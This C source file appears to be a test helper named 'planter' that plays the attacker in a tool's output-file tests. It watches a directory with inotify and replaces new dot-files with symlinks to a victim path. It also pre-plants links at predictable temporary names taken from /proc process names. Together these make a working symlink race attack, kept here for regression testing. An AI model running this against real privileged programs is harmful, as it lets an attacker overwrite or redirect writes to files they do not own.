/*
 * planter: the attacker of the `-o` tests, run as another user. It watches
 * DIR with inotify and replaces every new name starting with '.' by a
 * symbolic link to VICTIM (unlinking it first, which works only where the
 * attacker may: in a directory of its own, not a sticky one's files of
 * root's). Whenever no name is new, it reads the comm of every process and
 * plants a link at `DIR/.NAME.<pid>.tmp` for each one named COMM (the
 * temporary name profctl once used). It prints its ready line once
 * watching, stops when DIR/.stop appears, and prints `planted N` and
 * `replaced N` on stderr.
 *
 * Usage: planter DIR VICTIM NAME COMM
 */
#include <dirent.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *dir, *victim, *name, *comm;
static long planted, replaced;

/* Links at the old temporary name of every process named `comm`. */
static void plant_old_names(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *e;
	char path[PATH_MAX], seen[64];

	if (!proc)
		return;
	while ((e = readdir(proc))) {
		FILE *f;
		size_t n;

		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
		f = fopen(path, "r");
		if (!f)
			continue;
		n = fread(seen, 1, sizeof(seen) - 1, f);
		fclose(f);
		seen[n] = 0;
		seen[strcspn(seen, "\n")] = 0;
		if (strcmp(seen, comm))
			continue;
		snprintf(path, sizeof(path), "%s/.%s.%s.tmp", dir, name, e->d_name);
		if (symlink(victim, path) == 0)
			planted++;
	}
	closedir(proc);
}

/* Replace the new entry `entry` of dir by a link to the victim. */
static void replace(const char *entry)
{
	char path[PATH_MAX];
	struct stat st;

	if (entry[0] != '.' || !strcmp(entry, ".stop"))
		return;
	snprintf(path, sizeof(path), "%s/%s", dir, entry);
	if (lstat(path, &st) || S_ISLNK(st.st_mode))
		return;
	if (unlink(path) == 0 && symlink(victim, path) == 0)
		replaced++;
}

int main(int argc, char **argv)
{
	char stop[PATH_MAX];
	char events[65536] __attribute__((aligned(__alignof__(struct inotify_event))));
	int fd;

	if (argc != 5) {
		fprintf(stderr, "usage: planter DIR VICTIM NAME COMM\n");
		return 2;
	}
	dir = argv[1], victim = argv[2], name = argv[3], comm = argv[4];
	snprintf(stop, sizeof(stop), "%s/.stop", dir);
	fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE | IN_MOVED_TO) < 0) {
		perror("inotify");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	while (access(stop, F_OK) != 0) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		ssize_t len;
		char *at;

		if (poll(&p, 1, 1) <= 0) {
			plant_old_names();
			continue;
		}
		len = read(fd, events, sizeof(events));
		for (at = events; len > 0 && at < events + len;) {
			struct inotify_event *ev = (struct inotify_event *)at;

			if (ev->len)
				replace(ev->name);
			at += sizeof(*ev) + ev->len;
		}
	}
	fprintf(stderr, "planted %ld\nreplaced %ld\n", planted, replaced);
	return 0;
}
